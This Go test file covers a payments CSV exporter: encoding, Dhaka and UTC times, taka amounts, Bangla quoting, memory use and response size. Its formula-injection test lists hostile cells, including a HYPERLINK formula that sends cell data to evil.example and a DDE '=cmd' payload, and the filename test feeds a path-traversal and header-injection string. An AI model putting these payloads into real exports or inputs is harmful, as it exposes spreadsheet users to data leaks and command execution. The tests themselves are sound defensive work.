package export

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/takapay/payments/shared/foundation/money"
	"github.com/takapay/payments/shared/payment"
)

var created = time.Date(2026, 11, 27, 18, 30, 5, 123456789, time.UTC) // 2026-11-28 00:30:05 in Dhaka

func completedAt() *time.Time {
	t := created.Add(90 * time.Second)
	return &t
}

// export writes rows and returns the file's bytes.
func export(t testing.TB, rows ...Row) []byte {
	t.Helper()
	var b bytes.Buffer
	w := NewWriter(&b)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// readBack parses an export with encoding/csv (strict: every record has len(Header) fields).
func readBack(t testing.TB, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte(BOM)) {
		t.Fatalf("export does not start with the UTF-8 BOM: %q", b[:min(len(b), 8)])
	}
	r := csv.NewReader(bytes.NewReader(TrimBOM(b)))
	r.FieldsPerRecord = len(Header)
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export does not read back: %v\n%s", err, b)
	}
	if strings.Join(recs[0], ",") != strings.Join(Header, ",") {
		t.Fatalf("header = %q", recs[0])
	}
	return recs[1:]
}

func col(name string) int {
	for i, h := range Header {
		if h == name {
			return i
		}
	}
	panic(name)
}

func TestHeaderMatchesColumns(t *testing.T) {
	if len(Header) != numColumns {
		t.Fatalf("len(Header) = %d, numColumns = %d", len(Header), numColumns)
	}
}

func TestEmptyExportIsBOMAndHeader(t *testing.T) {
	got := string(export(t))
	want := BOM + strings.Join(Header, ",") + "\r\n"
	if got != want {
		t.Fatalf("empty export = %q; want %q", got, want)
	}
}

func TestExactBytesOfOneRow(t *testing.T) {
	got := string(export(t, Row{
		InvoiceID: "inv_1", Source: payment.SourceInvoice, DocumentID: "doc_9", Status: payment.Completed,
		CreatedAt: created, CompletedAt: completedAt(), Amount: 150000, Currency: "BDT",
		Reference: "Order, \"big\"\nline 2", Route: "bkash",
	}))
	want := BOM + strings.Join(Header, ",") + "\r\n" +
		"inv_1,invoices,doc_9,COMPLETED,2026-11-28 00:30:05,2026-11-27T18:30:05Z," +
		"2026-11-28 00:31:35,2026-11-27T18:31:35Z,150000,1500.00,BDT,\"Order, \"\"big\"\"\r\nline 2\",bkash\r\n"
	// A line break inside a quoted field is written as CRLF too (encoding/csv with UseCRLF).
	if got != want {
		t.Fatalf("export =\n%q\nwant\n%q", got, want)
	}
}

func TestTimesInDhakaAndUTC(t *testing.T) {
	// The input's own zone does not matter: the same instant in any zone writes the same cells.
	ny := time.FixedZone("X", -5*3600)
	recs := readBack(t, export(t,
		Row{InvoiceID: "a", Status: payment.Pending, CreatedAt: created},
		Row{InvoiceID: "b", Status: payment.Pending, CreatedAt: created.In(ny)},
		Row{InvoiceID: "c", Status: payment.Pending, CreatedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, Dhaka)},
	))
	for _, rec := range recs[:2] {
		if rec[col("created_at_dhaka")] != "2026-11-28 00:30:05" || rec[col("created_at_utc")] != "2026-11-27T18:30:05Z" {
			t.Errorf("times = %q", rec)
		}
		if rec[col("completed_at_dhaka")] != "" || rec[col("completed_at_utc")] != "" {
			t.Errorf("pending payment has a completion time: %q", rec)
		}
	}
	if c := recs[2]; c[col("created_at_dhaka")] != "2026-01-01 00:00:00" || c[col("created_at_utc")] != "2025-12-31T18:00:00Z" {
		t.Errorf("new year in Dhaka = %q", c)
	}
	// The fixed zone agrees with the tz database's Asia/Dhaka when the machine has one.
	if loc, err := time.LoadLocation("Asia/Dhaka"); err == nil {
		for _, when := range []time.Time{created, time.Date(2009, 7, 1, 0, 0, 0, 0, time.UTC), time.Date(2040, 1, 1, 0, 0, 0, 0, time.UTC)} {
			if a, b := when.In(loc).Format(DhakaLayout), when.In(Dhaka).Format(DhakaLayout); when.Year() != 2009 && a != b {
				t.Errorf("Dhaka %s, tz database %s", b, a)
			}
		}
	}
}

func TestAmounts(t *testing.T) {
	cases := []struct {
		p         money.Paisa
		paisa, tk string
	}{
		{0, "0", "0.00"},
		{1, "1", "0.01"},
		{99, "99", "0.99"},
		{100, "100", "1.00"},
		{150000, "150000", "1500.00"},
		{15000000, "15000000", "150000.00"}, // plain digits: no lakh grouping (the pages have it), no comma
		{100_000_000_000, "100000000000", "1000000000.00"},
	}
	var rows []Row
	for _, c := range cases {
		rows = append(rows, Row{InvoiceID: "x", Status: payment.Completed, CreatedAt: created, Amount: c.p})
	}
	recs := readBack(t, export(t, rows...))
	for i, c := range cases {
		if got := recs[i][col("amount_paisa")]; got != c.paisa {
			t.Errorf("amount_paisa(%d) = %q; want %q", c.p, got, c.paisa)
		}
		if got := recs[i][col("amount_taka")]; got != c.tk {
			t.Errorf("amount_taka(%d) = %q; want %q", c.p, got, c.tk)
		}
	}
}

func TestQuotingAndBanglaRoundTrip(t *testing.T) {
	refs := []string{
		"plain",
		"a,b",
		`say "hi"`,
		"two\nlines",
		"crlf\r\ninside",
		"অর্ডার ১২৩ — ঢাকা, বাংলাদেশ",
		"মূল্য: ৳১,৫০০.০০ \"বিকাশ\"",
		"emoji 🇧🇩 and zero-width\u200bjoiner",
		"",
		" leading and trailing ",
	}
	var rows []Row
	for _, ref := range refs {
		rows = append(rows, Row{InvoiceID: "inv", Status: payment.Completed, CreatedAt: created, Reference: ref, Route: "নগদ"})
	}
	b := export(t, rows...)
	recs := readBack(t, b)
	if len(recs) != len(refs) {
		t.Fatalf("%d records; want %d", len(recs), len(refs))
	}
	for i, ref := range refs {
		// encoding/csv turns a quoted CRLF into LF when reading; the file itself keeps it.
		want := strings.ReplaceAll(ref, "\r\n", "\n")
		if got := recs[i][col("reference")]; got != want {
			t.Errorf("reference %d = %q; want %q", i, got, want)
		}
		if got := recs[i][col("route")]; got != "নগদ" {
			t.Errorf("route = %q", got)
		}
	}
	if !bytes.Contains(b, []byte("\"crlf\r\ninside\"")) {
		t.Errorf("a CRLF inside a reference is not kept verbatim inside quotes")
	}
	// Every record ends with CRLF: no bare LF outside quoted fields.
	if !bytes.HasSuffix(b, []byte("\r\n")) {
		t.Errorf("export does not end with CRLF")
	}
}

func TestFormulaCellsAreNeutralised(t *testing.T) {
	hostile := []string{
		"=1+1",
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"+8801711000000",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1",
		"\r=1",
		"\n=1",
		"  =cmd|' /C calc'!A0",
		"＝1+1",
		"＋1",
		"－1",
		"＠SUM(A1)",
		"\u00a0=1",
		"\u3000=1",
	}
	var rows []Row
	for _, h := range hostile {
		rows = append(rows, Row{
			InvoiceID: h, Source: payment.SourceKind(h), DocumentID: h, Status: payment.Status(h),
			CreatedAt: created, Currency: h, Reference: h, Route: h,
		})
	}
	recs := readBack(t, export(t, rows...))
	text := []string{"invoice_id", "source", "document_id", "status", "currency", "reference", "route"}
	for i, h := range hostile {
		for _, name := range text {
			got := recs[i][col(name)]
			// encoding/csv with UseCRLF drops a lone CR: the apostrophe still comes first.
			want := "'" + strings.ReplaceAll(h, "\r", "")
			if got != want {
				t.Errorf("%s %q written as %q; want %q", name, h, got, want)
			}
		}
		if Neutralise(h) != "'"+h {
			t.Errorf("Neutralise(%q) = %q", h, Neutralise(h))
		}
	}
	// Harmless cells stay as they are, including ones with a formula character later on.
	for _, ok := range []string{"", "inv_abc", "a=b", "1+1", "bKash-01", "ঢাকা", "   ", "'=already"} {
		if Neutralise(ok) != ok {
			t.Errorf("Neutralise(%q) = %q; want unchanged", ok, Neutralise(ok))
		}
	}
	// No cell of any export starts with a formula character, numeric ones included.
	for _, rec := range recs {
		for j, cell := range rec {
			if formulaLike(cell) {
				t.Errorf("cell %s = %q would be evaluated", Header[j], cell)
			}
		}
	}
}

func TestRowOfPayment(t *testing.T) {
	done := created.Add(time.Minute)
	p := &payment.Payment{
		InvoiceID: "pi_1", Status: payment.Completed, AmountMinor: 2550, Currency: "BDT", Reference: "ref",
		CreatedAt: created, FinishedAt: &done, LockRoute: "bkash",
		Source: payment.Source{Kind: payment.SourcePaymentLinks, DocumentID: "plink_1", DocumentVersion: 3, Quantity: 2},
	}
	r := RowOf(p, done)
	if r.InvoiceID != "pi_1" || r.Source != payment.SourcePaymentLinks || r.DocumentID != "plink_1" ||
		r.Route != "bkash" || r.Amount != 2550 || r.CompletedAt == nil || !r.CompletedAt.Equal(done) {
		t.Fatalf("RowOf = %+v", r)
	}
	// A standalone payment has the standalone source; a payment that finished other than
	// COMPLETED has no completion time.
	failed := &payment.Payment{InvoiceID: "inv_2", Status: payment.Failed, CreatedAt: created, FinishedAt: &done}
	r = RowOf(failed, done)
	if r.Source != payment.SourceStandalone || r.CompletedAt != nil || r.DocumentID != "" || r.Currency != "BDT" {
		t.Fatalf("RowOf(failed standalone) = %+v", r)
	}
	// The status is the effective one: PENDING past its expiry is EXPIRED.
	pending := &payment.Payment{InvoiceID: "inv_3", Status: payment.Pending, CreatedAt: created, ExpiresAt: done}
	if got := RowOf(pending, done.Add(-time.Second)).Status; got != payment.Pending {
		t.Errorf("status before expiry = %s", got)
	}
	if got := RowOf(pending, done).Status; got != payment.Expired {
		t.Errorf("status at expiry = %s; want EXPIRED", got)
	}
}

type failingWriter struct{ after int }

func (f *failingWriter) Write(p []byte) (int, error) {
	if f.after <= 0 {
		return 0, errors.New("disk full")
	}
	f.after--
	return len(p), nil
}

func TestWriteErrorsAreReported(t *testing.T) {
	w := NewWriter(&failingWriter{})
	var err error
	for i := 0; i < 10_000 && err == nil; i++ {
		err = w.Write(realisticRow(i))
	}
	if err == nil {
		err = w.Flush()
	}
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("err = %v; want the writer's error", err)
	}
}

// realisticRow is a completed payment-link payment with a Bangla reference of typical length.
func realisticRow(i int) Row {
	return Row{
		InvoiceID: fakeUUID("payment", i), Source: payment.SourcePaymentLinks, DocumentID: fakeUUID("link", i%50),
		Status: payment.Completed, CreatedAt: created.Add(time.Duration(i) * time.Second), CompletedAt: completedAt(),
		Amount: money.Paisa(150050 + 37*i), Currency: "BDT", Reference: fmt.Sprintf("অর্ডার #%d - শাড়ি, ২টি", 10000+i), Route: "bkash",
	}
}

// fakeUUID is a deterministic id as random-looking (and incompressible) as the real ones.
func fakeUUID(kind string, i int) string {
	h := sha256.Sum256(fmt.Appendf(nil, "%s/%d", kind, i))
	return fmt.Sprintf("%x-%x-%x-%x-%x", h[0:4], h[4:6], h[6:8], h[8:10], h[10:16])
}

// writeN writes n prepared rows to io.Discard.
func writeN(rows []Row) error {
	w := NewWriter(io.Discard)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	return w.Flush()
}

func rowsN(n int) []Row {
	rows := make([]Row, n)
	for i := range rows {
		rows[i] = realisticRow(i)
	}
	return rows
}

// Memory is constant in the number of rows: the allocations of an export are a fixed setup
// plus the same small number per row, so nothing accumulates as rows go by.
func TestAllocationsPerRowDoNotGrow(t *testing.T) {
	small, large := rowsN(1_000), rowsN(10_000)
	a := testing.AllocsPerRun(3, func() { _ = writeN(small) })
	b := testing.AllocsPerRun(3, func() { _ = writeN(large) })
	perRow := (b - a) / float64(len(large)-len(small))
	setup := a - perRow*float64(len(small))
	t.Logf("allocations: %.0f for 1,000 rows, %.0f for 10,000 rows: %.3f per row, %.1f setup", a, b, perRow, setup)
	if perRow > 1.01 {
		t.Errorf("%.3f allocations per row; want at most 1 (one string per record)", perRow)
	}
	if setup > 20 {
		t.Errorf("%.1f allocations of setup; want a handful", setup)
	}
}

func TestTenThousandRowsReadBack(t *testing.T) {
	rows := rowsN(10_000)
	b := export(t, rows...)
	recs := readBack(t, b)
	if len(recs) != len(rows) {
		t.Fatalf("%d records; want %d", len(recs), len(rows))
	}
	for i, rec := range recs {
		if rec[col("invoice_id")] != rows[i].InvoiceID || rec[col("reference")] != rows[i].Reference {
			t.Fatalf("record %d = %q", i, rec)
		}
	}
	t.Logf("10,000 realistic rows: %d bytes (%.2f MB), %.1f bytes per row", len(b), float64(len(b))/1e6, float64(len(b))/1e4)
}

func BenchmarkExport10000Rows(b *testing.B) {
	rows := rowsN(10_000)
	var size int
	{
		var buf bytes.Buffer
		w := NewWriter(&buf)
		for _, r := range rows {
			_ = w.Write(r)
		}
		_ = w.Flush()
		size = buf.Len()
	}
	b.SetBytes(int64(size))
	b.ReportAllocs()
	for b.Loop() {
		if err := writeN(rows); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(size), "csv-bytes")
}

// worstRow is the largest row the API lets exist: a 128-character reference (the create
// rules' maximum) of varied 4-byte characters.
func worstRow(i int) Row {
	r := realisticRow(i)
	h := sha256.Sum256(fmt.Appendf(nil, "ref/%d", i))
	ref := make([]rune, 128)
	for k := range ref {
		ref[k] = rune(0x1F300 + int(h[k%32])*4 + k%4) // 4-byte emoji, varied
	}
	r.Reference = string(ref)
	r.Route = "bkash-merchant"
	return r
}

// The dashboard serves the export through API Gateway HTTP API + Lambda, whose response
// payload is limited to 6 MB (6,291,456 bytes) and not streamed: this measures the body for
// 10,000 rows as the Lambda returns it (as a JSON string; base64 if binary or gzipped).
func TestResponseSizesOfTenThousandRows(t *testing.T) {
	const limit = 6 << 20
	for _, tc := range []struct {
		name string
		row  func(int) Row
	}{{"realistic", realisticRow}, {"worst case", worstRow}} {
		var rows []Row
		for i := range 10_000 {
			rows = append(rows, tc.row(i))
		}
		raw := export(t, rows...)
		asJSON, err := json.Marshal(string(raw))
		if err != nil {
			t.Fatal(err)
		}
		var gz bytes.Buffer
		zw := gzip.NewWriter(&gz)
		_, _ = zw.Write(raw)
		_ = zw.Close()
		b64 := base64.StdEncoding.EncodedLen(gz.Len())
		t.Logf("%s: csv %d B, as JSON string %d B, base64 %d B, gzip %d B, gzip+base64 %d B (limit %d)",
			tc.name, len(raw), len(asJSON), base64.StdEncoding.EncodedLen(len(raw)), gz.Len(), b64, limit)
		if tc.name == "realistic" && len(asJSON) > limit {
			t.Errorf("10,000 realistic rows (%d B as JSON) exceed the 6 MB response limit", len(asJSON))
		}
		if b64 > limit {
			t.Errorf("10,000 %s rows gzipped (%d B base64) exceed the 6 MB response limit", tc.name, b64)
		}
	}
}

func TestFilename(t *testing.T) {
	from := time.Date(2026, 10, 31, 18, 0, 0, 0, time.UTC) // 2026-11-01 00:00 in Dhaka
	to := time.Date(2026, 11, 27, 17, 59, 59, 0, time.UTC)
	if got := Filename("live", from, to); got != "takapay-payments-live-2026-11-01-to-2026-11-27.csv" {
		t.Errorf("Filename = %q", got)
	}
	if got := Filename("\"; x=../evil\r\n", from, from); got != "takapay-payments-xevil-2026-11-01-to-2026-11-01.csv" {
		t.Errorf("Filename with hostile env = %q", got)
	}
	if got := Filename("", from, from); got != "takapay-payments-2026-11-01-to-2026-11-01.csv" {
		t.Errorf("Filename without env = %q", got)
	}
}
